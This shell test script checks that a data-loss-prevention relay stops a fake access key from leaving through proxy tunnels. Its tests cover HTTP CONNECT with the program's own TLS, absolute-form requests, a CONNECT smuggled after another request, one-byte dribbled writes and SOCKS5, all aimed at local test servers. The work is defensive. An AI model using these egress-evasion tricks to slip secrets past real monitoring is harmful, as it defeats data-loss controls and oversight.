#!/bin/sh
# 367-proxy-tunnel: an HTTP proxy the policy allows is no way around the
# relay (branch redteam-egress). Before: the relay judged the connect to
# the proxy only, and looked for a ClientHello at the stream's start only,
# so "CONNECT anywhere:443" followed by the program's own TLS (Go) carried
# a secret to any host, as ciphertext nobody read; an absolute-form
# request ("POST http://anywhere/") reached any host too. Now the HTTP
# glue judges a proxy request's destination as a connect (refused:
# evented), a CONNECT opening the stream makes the relay sniff the tunnel's
# first bytes again (TLS goes the key or the CA path: the server name is
# judged, the plaintext scanned), and a CONNECT after another request on
# one connection is refused; a SOCKS handshake is refused (the relay does
# not read SOCKS tunnels). Legitimate proxied TLS (curl -x, Go
# verifying against the jail's CA) still works, clean bytes arrive.
. "$(dirname "$0")/lib.sh"

need_relay
command -v go >/dev/null || skip "no go toolchain (Debian: golang-go)"
command -v openssl >/dev/null || skip "openssl not installed"
SECRET=AKIAZ7QH3MXR5TLB2WQE
sh "$top_srcdir/t/tls/mkcerts.sh" "$T/pki" "DNS:tun.test,IP:127.0.0.2" || { echo "cannot make certificates"; exit 99; }
(cd "$T" && cp "$top_srcdir/t/e2e/tunnel_go.go" . &&
 CGO_ENABLED=0 GO111MODULE=off timeout 120 go build -o tunnel_go tunnel_go.go) ||
	{ echo "cannot build tunnel_go"; exit 99; }

# srv NAME MODE BIND [ARGS]: tunnel_srv.py, sets ${NAME}_PORT and ${NAME}_LOG
srv() {
	n=$1 m=$2 b=$3; shift 3
	python3 "$top_srcdir/t/e2e/tunnel_srv.py" "$m" "$b" "$T/$n.port" "$T/$n.log" "$@" &
	PIDS="$PIDS $!"
	i=0
	while [ ! -s "$T/$n.port" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
	[ -s "$T/$n.port" ] || { echo "cannot start tunnel_srv $m"; exit 99; }
	touch "$T/$n.log"
	eval "${n}_PORT=\$(cat \"\$T/\$n.port\")"
	eval "${n}_LOG=\"\$T/\$n.log\""
}
srv px proxy 127.0.0.1
srv far tls 127.0.0.2 "$T/pki/server.pem" "$T/pki/server.key"
PX=127.0.0.1:$px_PORT FAR=127.0.0.2:$far_PORT
arrived() { grep -q "$1" "$far_LOG"; }
never() { sleep 0.3; ! arrived "$1"; }

# 1. the destination behind the proxy is refused by the policy
timeout 20 "$DLPJAIL" --no-default-policy --relay --allow 127.0.0.1 --log "$T/events.jsonl" -- \
	"$T/tunnel_go" "$PX" "$FAR" tun.test "$SECRET" > "$T/1.out" 2>&1
sed 's/^/# 1: /' "$T/1.out"
check "CONNECT to a refused destination: the secret never arrives" never "$SECRET"
check "...the proxy was never asked" sh -c "! grep -q CONNECT '$px_LOG'"
check "...evented as a proxy request" event_has '"verdict":"deny"' 'proxy request \(CONNECT\)'

# 2. destination allowed, the program's own TLS: taken by the CA path,
# whose server-name rule refuses tun.test (not allowed)
timeout 20 "$DLPJAIL" --no-default-policy --relay --allow 127.0.0.1 --allow 127.0.0.2 -- \
	"$T/tunnel_go" "$PX" "$FAR" tun.test "$SECRET" > "$T/2.out" 2>&1
sed 's/^/# 2: /' "$T/2.out"
check "own TLS in an allowed tunnel, name not allowed: nothing arrives" never "$SECRET"

# 3. all allowed, the client verifies against the jail's CA: plaintext scanned
J="--no-default-policy --relay --allow 127.0.0.1 --allow 127.0.0.2 --allow tun.test --upstream-ca $T/pki/ca.pem"
VERIFY=1 timeout 20 "$DLPJAIL" $J -- "$T/tunnel_go" "$PX" "$FAR" tun.test clean-367-go > "$T/3.out" 2>&1
sed 's/^/# 3: /' "$T/3.out"
check "Go through the proxy, verified against the jail's CA: clean bytes arrive" arrived clean-367-go
VERIFY=1 timeout 20 "$DLPJAIL" $J -- "$T/tunnel_go" "$PX" "$FAR" tun.test "$SECRET" > "$T/3s.out" 2>&1
check "...and its secret is refused (the tunnel's plaintext is scanned)" never "$SECRET"

# 4. curl -x (hooked OpenSSL) through the same proxy
timeout 20 "$DLPJAIL" $J -- curl -sS -x "http://$PX" --cacert "$T/pki/ca.pem" \
	-H 'X-Key: clean-367-curl' "https://127.0.0.2:$far_PORT/" > "$T/4.out" 2>&1
check "curl -x: clean bytes arrive" arrived clean-367-curl
timeout 20 "$DLPJAIL" $J -- curl -sS -x "http://$PX" --cacert "$T/pki/ca.pem" \
	-H "X-Key: $SECRET" "https://127.0.0.2:$far_PORT/" > "$T/4s.out" 2>&1
check "curl -x: the secret never arrives" never "$SECRET"

# 5. absolute form to a refused destination; 6. a second request's CONNECT
cat > "$T/raw.py" <<PY
import socket, sys
s = socket.create_connection(("127.0.0.1", $px_PORT))
s.sendall(sys.argv[1].encode().replace(b"|", b"\r\n"))
try:
    print(s.recv(200))
except OSError as e:
    print("recv", e)
PY
: > "$px_LOG"
timeout 20 "$DLPJAIL" --no-default-policy --relay --allow 127.0.0.1 -- python3 "$T/raw.py" \
	"GET http://127.0.0.2:$far_PORT/x HTTP/1.1|Host: 127.0.0.2||" > "$T/5.out" 2>&1
check "absolute-form request to a refused destination: never reaches the proxy" \
	sh -c "! grep -q 'http://127.0.0.2' '$px_LOG'"
timeout 20 "$DLPJAIL" --no-default-policy --relay --allow 127.0.0.1 --allow 127.0.0.2 -- python3 "$T/raw.py" \
	"GET / HTTP/1.1|Host: 127.0.0.1||CONNECT $FAR HTTP/1.1|Host: $FAR||" > "$T/6.out" 2>&1
check "CONNECT after another request on the connection: never reaches the proxy" \
	sh -c "! grep -q 'CONNECT' '$px_LOG'"
# 6b. a CONNECT to a refused destination dribbled a byte a write (its verb
# is passed on as it comes, not held): still judged, nothing tunnelled
cat > "$T/drip.py" <<PY
import socket, sys, time
s = socket.create_connection(("127.0.0.1", $px_PORT))
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
try:
    for b in sys.argv[1].encode().replace(b"|", b"\r\n"):
        s.send(bytes([b])); time.sleep(0.002)
    s.sendall(sys.argv[2].encode())
    print(s.recv(200))
except OSError as e:
    print("send", e)
PY
: > "$px_LOG"
timeout 20 "$DLPJAIL" --no-default-policy --relay --allow 127.0.0.1 -- python3 "$T/drip.py" \
	"CONNECT $FAR HTTP/1.1|Host: $FAR||" "$SECRET" > "$T/6b.out" 2>&1
sed 's/^/# 6b: /' "$T/6b.out"
check "CONNECT in 1-byte writes to a refused destination: the secret never arrives" never "$SECRET"
check "...the proxy was never asked" sh -c "! grep -q CONNECT '$px_LOG'"

# 7. a SOCKS5 proxy (allowed address) to a refused destination, own TLS
srv sx socks 127.0.0.1
: > "$T/events.jsonl"
SOCKS=1 timeout 20 "$DLPJAIL" --no-default-policy --relay --allow 127.0.0.1 --log "$T/events.jsonl" -- \
	"$T/tunnel_go" "127.0.0.1:$sx_PORT" "$FAR" tun.test "$SECRET" > "$T/7.out" 2>&1
sed 's/^/# 7: /' "$T/7.out"
check "SOCKS5 tunnel: the secret never arrives" never "$SECRET"
check "...the proxy was never asked" sh -c "! grep -q SOCKS '$sx_LOG'"
check "...evented" event_has '"verdict":"deny"' 'relay-socks'
finish
